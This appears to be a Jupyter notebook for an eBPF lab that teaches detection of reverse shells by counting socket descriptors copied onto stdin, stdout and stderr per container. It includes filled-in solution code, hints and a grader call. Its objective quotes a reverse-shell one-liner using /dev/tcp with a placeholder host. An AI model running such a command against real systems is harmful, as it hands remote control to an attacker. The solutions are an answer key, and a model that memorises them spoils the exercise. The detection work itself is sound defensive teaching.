# ---
# jupyter:
#   kernelspec:
#     display_name: eBPF (root)
#     language: python
#     name: ebpf-root
# ---

# %% [markdown]
# # Lab 17.2: Detect a reverse shell
#
# **Objective.** A reverse shell connects out to the attacker and puts the
# socket on its standard input, output and error (`dup2(sock, 0)`, ...),
# then runs a shell: whatever the attacker types is executed, and the
# answers go back over the network. Falco's rule *Redirect STDOUT/STDIN to
# Network Connection in Container* looks for exactly this. Write it: count,
# per container, every copy of a **socket** onto descriptor 0, 1 or 2.
#
# **Expected observation.** The check runs, each in its own container:
# a reverse shell that copies its socket onto 0, 1 and 2 (the last with
# `dup3`); a variant that copies the socket onto 1 and then 1 onto 0 (as
# `sh -i >& /dev/tcp/HOST/PORT 0>&1` does); and benign work: a TCP client,
# output redirected to a file, a socket copied onto descriptor 7, and a
# socket closed whose descriptor number is then reused by a file copied
# onto 1. The host runs a reverse shell too. `flagged` must hold 3 and 2
# for the two attacks, and nothing else.

# %% [markdown]
# ## Background
#
# * **Which descriptors are sockets?** `dup2` only sees numbers. Remember
#   them as they are made: `syscalls:sys_exit_socket` gives the new socket's
#   descriptor in `args->ret` (negative on failure). Key by the process
#   (`bpf_get_current_pid_tgid() >> 32`) and the descriptor.
# * **Forget them** at `syscalls:sys_enter_close` (`args->fd`): the number
#   is reused by the next `open`.
# * **A copy of a socket is a socket**: after `dup2(sock, 1)`, descriptor 1
#   is the socket too, and `dup2(1, 0)` copies it again.
# * **`dup2` and `dup3`** (`args->oldfd`, `args->newfd`): `dup3` is `dup2`
#   with flags, and arm64 has only `dup3`. The `sys_enter_dup2` probe is
#   compiled only where the tracepoint exists (`HAS_DUP2`, set by the check).
# * Only watched containers: the check lists their cgroup ids in `containers`.

# %%
import ctypes as ct
import os

from ebpf_tutor import Program
from ebpf_tutor.labs import check
from ebpf_tutor.sandbox.container import Container

# %% [markdown]
# ## Your program
#
# Keep the names: the check fills `containers` and reads `flagged`
# (cgroup id -> copies of a socket onto 0, 1 or 2).

# %% tags=["answer"]
PROGRAM = r"""
struct sock_key { u32 tgid; u32 fd; };

BPF_HASH(containers, u64, u8, 64);              /* cgroup ids to watch */
BPF_HASH(sockets, struct sock_key, u8, 65536);  /* descriptors that are sockets */
BPF_HASH(flagged, u64, u64, 64);                /* cgroup id -> socket copies onto 0-2 */

static __always_inline int watched(void) {
    u64 cgroup = bpf_get_current_cgroup_id();
    return containers.lookup(&cgroup) != NULL;
}

TRACEPOINT_PROBE(syscalls, sys_exit_socket) {
    // TODO 1: in a watched container, remember a new socket (args->ret >= 0)
    // BEGIN SOLUTION
    if (args->ret < 0 || !watched())
        return 0;
    struct sock_key k = {.tgid = bpf_get_current_pid_tgid() >> 32, .fd = args->ret};
    u8 one = 1;
    sockets.update(&k, &one);
    // END SOLUTION
    return 0;
}

TRACEPOINT_PROBE(syscalls, sys_enter_close) {
    // TODO 2: forget the descriptor being closed
    // BEGIN SOLUTION
    struct sock_key k = {.tgid = bpf_get_current_pid_tgid() >> 32, .fd = args->fd};
    sockets.delete(&k);
    // END SOLUTION
    return 0;
}

static __always_inline int copied(u32 oldfd, u32 newfd) {
    // TODO 3: if oldfd is a socket of this process, newfd becomes one too;
    //         if newfd is 0, 1 or 2, add 1 to flagged[cgroup id]
    // BEGIN SOLUTION
    if (!watched())
        return 0;
    struct sock_key k = {.tgid = bpf_get_current_pid_tgid() >> 32, .fd = oldfd};
    if (!sockets.lookup(&k))
        return 0;
    struct sock_key copy = {.tgid = k.tgid, .fd = newfd};
    u8 one = 1;
    sockets.update(&copy, &one);
    if (newfd <= 2) {
        u64 cgroup = bpf_get_current_cgroup_id(), zero = 0;
        u64 *n = flagged.lookup_or_try_init(&cgroup, &zero);
        if (n)
            __sync_fetch_and_add(n, 1);
    }
    // END SOLUTION
    return 0;
}

#ifdef HAS_DUP2
TRACEPOINT_PROBE(syscalls, sys_enter_dup2) { return copied(args->oldfd, args->newfd); }
#endif
TRACEPOINT_PROBE(syscalls, sys_enter_dup3) { return copied(args->oldfd, args->newfd); }
"""

# %% [markdown]
# <details><summary>Hint 1: the idea (click to open)</summary>
#
# Keep a set of (process, descriptor) pairs that are sockets: add at
# `socket()`'s return, remove at `close()`. At `dup2`/`dup3`, if the old
# descriptor is in the set, the new one joins it; and if the new one is 0,
# 1 or 2, that is the reverse-shell move: count it for the container.
# </details>
#
# <details><summary>Hint 2: the API</summary>
#
# * `struct sock_key k = {.tgid = bpf_get_current_pid_tgid() >> 32, .fd = args->ret};`
#   then `sockets.update(&k, &one)`; `sockets.delete(&k)` at close.
# * In `copied`: `sockets.lookup(&k)` with `.fd = oldfd`; then
#   `sockets.update` with `.fd = newfd`.
# * `u64 cgroup = bpf_get_current_cgroup_id(), zero = 0, *n = flagged.lookup_or_try_init(&cgroup, &zero);`
#   and `__sync_fetch_and_add(n, 1)` if `n` is not NULL.
# </details>
#
# <details><summary>Hint 3: the cases people miss</summary>
#
# `0>&1` copies descriptor 1, not the socket's first number: mark the copy.
# A closed socket's number comes back for the next file: delete at close.
# Standard error is descriptor 2: `newfd <= 2`.
# </details>

# %% [markdown]
# ## Try it
#
# A reverse shell in a container: a listener on its loopback, a client
# that copies its socket onto 0 and 1 and runs a shell.

# %% tags=["try"]
REVERSE = r"""
import os, socket
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
s = socket.create_connection(srv.getsockname())
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
os.execv("/bin/true", ["true"])
"""
has_dup2 = os.path.exists("/sys/kernel/tracing/events/syscalls/sys_enter_dup2")
with Program(PROGRAM, cflags=["-DHAS_DUP2"] if has_dup2 else []) as prog, Container("try") as c:
    prog["containers"][ct.c_uint64(c.cgroup_id)] = ct.c_uint8(1)
    c.run(["python3", "-I", "-c", REVERSE])
    print({k.value == c.cgroup_id: v.value for k, v in prog["flagged"].items()})

# %% [markdown]
# ## Check

# %% tags=["check"]
check("17.2", program=PROGRAM)
